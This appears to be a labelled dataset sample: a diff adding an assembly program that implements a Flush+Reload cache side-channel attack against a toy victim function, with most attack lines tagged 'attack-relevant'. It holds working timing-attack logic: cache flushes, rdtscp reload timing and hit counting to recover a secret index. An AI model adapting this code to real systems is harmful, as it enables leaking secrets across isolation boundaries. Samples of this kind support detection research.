@@ -1,0 +1,57 @@
+; exported from program 'FR-IAIK'
+.word 0x20000000 0x7
+.entry main
+main:
+  xor r15, r15
+  mov rcx, 4
+round_loop:
+  mov rdi, 0
+  lea rsi, [268443648]
+flush_loop:
+  clflush [rsi]   ; attack-relevant
+  add rsi, 2048   ; attack-relevant
+  inc rdi   ; attack-relevant
+  cmp rdi, 16   ; attack-relevant
+  jl flush_loop   ; attack-relevant
+  mfence
+  call victim
+  mov rdi, 0
+reload_loop:
+  mov rax, rdi   ; attack-relevant
+  imul rax, 2048   ; attack-relevant
+  lea rsi, [rax+268443648]   ; attack-relevant
+  rdtscp r8   ; attack-relevant
+  mov rbx, [rsi]   ; attack-relevant
+  rdtscp r9   ; attack-relevant
+  sub r9, r8   ; attack-relevant
+  cmp r9, 100   ; attack-relevant
+  jge reload_next   ; attack-relevant
+  mov rax, [r15+rdi*8+805306368]   ; attack-relevant
+  inc rax   ; attack-relevant
+  mov [r15+rdi*8+805306368], rax   ; attack-relevant
+reload_next:
+  inc rdi   ; attack-relevant
+  cmp rdi, 16   ; attack-relevant
+  jl reload_loop   ; attack-relevant
+  dec rcx
+  jne round_loop
+  mov rdi, 0
+  mov rbx, -1
+  mov rdx, 0
+argmax_loop:
+  mov rax, [r15+rdi*8+805306368]
+  cmp rax, rbx
+  jle argmax_next
+  mov rbx, rax
+  mov rdx, rdi
+argmax_next:
+  inc rdi
+  cmp rdi, 16
+  jl argmax_loop
+  mov [805308416], rdx
+  hlt
+victim:
+  mov rax, [536870912]   ; attack-relevant
+  imul rax, 2048   ; attack-relevant
+  mov rbx, [rax+268443648]   ; attack-relevant
+  ret
